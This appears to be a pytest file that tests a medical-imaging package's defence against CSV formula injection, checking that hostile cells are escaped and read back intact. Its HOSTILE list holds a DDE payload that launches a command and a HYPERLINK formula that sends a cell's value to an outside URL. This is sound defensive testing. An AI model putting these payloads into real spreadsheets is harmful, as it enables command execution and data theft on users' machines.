"""CSV files of the package are no formulas to a spreadsheet, and read back as they were."""

from __future__ import annotations

import csv
import re
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from bts.audit.patients import read_rows
from bts.audit.run import with_split_file
from bts.csv_files import as_text, dict_reader, dict_writer, original, read_frame, write_frame, writer
from bts.data.sources.manifest import Manifest
from bts.data.sources.manifest_table import write_manifest
from bts.data.split import Split, SplitRow
from bts.training.progress import Curves

ROOT = Path(__file__).resolve().parents[2]
HOSTILE = (
    "=cmd|' /C calc'!A0",
    "+1+cmd",
    "-2+3+cmd",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "'=already",
    "''@twice",
    "a;=1+1",
    "\uff1d1+1",
    '=HYPERLINK("http://example.org?x="&A1,"x")',
    "-",
)
HARMLESS = ("", "glioma", "it's", "'quoted'", "a=b", "MR040240-B", "-0.5", "+3", "1e-5", "-inf", "nan", "x;y")


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_becomes_a_text_and_is_read_back(text: str) -> None:
    written = as_text(text)

    assert isinstance(written, str)
    assert all(not re.match(r"[=+\-@\t\r\n＝]", cell) for cell in written.split(";"))
    assert original(written) == text


@pytest.mark.parametrize("text", HARMLESS)
def test_other_texts_and_numbers_stay_as_they_are(text: str) -> None:
    assert as_text(text) == text
    assert original(text) == text


def test_random_texts_come_back() -> None:
    random = np.random.default_rng(0)
    letters = list("=+-@\t\r\n';a1.e ＝")
    for _ in range(20_000):
        text = "".join(random.choice(letters, size=random.integers(0, 7)))
        written = str(as_text(text))

        assert original(written) == text
        assert as_text(text) == text or written.replace("'", "") == text.replace("'", "")


def test_rows_and_frames_read_back_what_was_written(tmp_path: Path) -> None:
    texts = [*HOSTILE, *(text for text in HARMLESS if text)]
    with (tmp_path / "rows.csv").open("w", encoding="utf-8", newline="") as file:
        rows = writer(file)
        rows.writerow(["=name", "value"])
        rows.writerows([text, -1.5] for text in texts)
    with (tmp_path / "named.csv").open("w", encoding="utf-8", newline="") as file:
        named = dict_writer(file, ["=name", "value"])
        named.writeheader()
        named.writerows({"=name": text, "value": -1.5} for text in texts)
    frame = pd.DataFrame({"=name": texts, "value": -1.5})
    write_frame(frame, tmp_path / "frame.csv", float_format="%.6g")

    for name in ("rows.csv", "named.csv", "frame.csv"):
        with (tmp_path / name).open(encoding="utf-8", newline="") as file:
            read = list(dict_reader(file))
        assert [row["=name"] for row in read] == texts
        assert {row["value"] for row in read} == {"-1.5"}
        assert_no_formula(tmp_path / name)
    back = read_frame(tmp_path / "frame.csv", dtype={"'=name": str})
    assert list(back.columns) == ["=name", "value"]
    assert back["value"].to_list() == [-1.5] * len(texts)
    assert [text for text in back["=name"] if isinstance(text, str)] == [text for text in texts if text != "nan"]


def test_a_split_keeps_hostile_patients_and_paths(tmp_path: Path) -> None:
    rows = tuple(
        SplitRow(path=f"={i}.png", patient=f"@patient{i}", label="-glioma", part=part)
        for i, part in enumerate(("train", "val", "test"))
    )
    Split(rows).write(tmp_path / "split.csv")

    assert Split.read(tmp_path / "split.csv").rows == rows
    assert Split.read(tmp_path / "split.csv").fingerprint == Split(rows).fingerprint
    assert_no_formula(tmp_path / "split.csv")


def test_a_manifest_keeps_hostile_cells(tmp_path: Path) -> None:
    from PIL import Image

    Image.new("L", (32, 32), 7).save(tmp_path / "=1+1.png")
    row = {
        "path": "=1+1.png",
        "label": "+glioma",
        "mask": "",
        "patient_id": "@one",
        "split": "train",
        "plane": "",
        "source": "-s",
    }
    write_manifest(tmp_path / "manifest.csv", [row])

    (record,) = Manifest(tmp_path).records()
    assert (record.path, record.label, record.patient, record.source) == ("=1+1.png", "+glioma", "@one", "-s")
    assert_no_formula(tmp_path / "manifest.csv")


def test_tables_of_the_audit_read_hostile_cells(tmp_path: Path) -> None:
    from bts.audit.images import AuditSet
    from bts.audit.tables import write_table

    table = write_table(tmp_path / "recovered.csv", ("path", "patient_id"), [("=a.png", "+one")])
    split = write_table(tmp_path / "split.csv", ("path", "part", "patient"), [("=a.png", "train", "-one-")])

    rows = read_rows(table, ("path", "patient_id"), remedy="name another")
    assert list(rows) == [(2, {"path": "=a.png", "patient_id": "+one"})]
    sides = with_split_file(AuditSet("set", None), split)  # type: ignore[arg-type]
    assert (sides.parts, sides.patients) == ({"=a.png": "train"}, {"=a.png": "-one-"})
    assert_no_formula(table)
    assert_no_formula(split)


def test_curves_keep_negative_numbers(tmp_path: Path) -> None:
    curves = Curves(tmp_path / "curves.csv")
    curves.append({"epoch": 1, "stage": "=1", "loss": -0.5, "other": float("-inf")})

    assert Curves(tmp_path / "curves.csv").rows == [{"epoch": "1", "stage": "=1", "loss": "-0.5", "other": "-inf"}]
    assert (tmp_path / "curves.csv").read_bytes() == b"epoch,stage,loss,other\r\n1,'=1,-0.5,-inf\r\n"


def test_every_csv_of_the_package_goes_through_one_module() -> None:
    direct = re.compile(r"csv\.(writer|DictWriter|reader|DictReader)\(|\.to_csv\(|\.read_csv\(")
    files = sorted((ROOT / "bts").rglob("*.py"))
    found = {
        path.relative_to(ROOT).as_posix()
        for path in files
        if path.name != "csv_files.py" and direct.search(path.read_text(encoding="utf-8"))
    }

    assert len(files) > 100
    assert found == set()


def assert_no_formula(path: Path) -> None:
    """Fail where a cell is one that a spreadsheet computes, numbers apart."""
    with path.open(encoding="utf-8", newline="") as file:
        cells = [cell for row in csv.reader(file) for cell in row]
    assert cells
    for cell in cells:
        for part in cell.split(";"):
            assert not part.startswith(("=", "+", "-", "@", "\t", "\r")) or re.fullmatch(r"[+-](\d+\.?\d*|inf)", part), cell
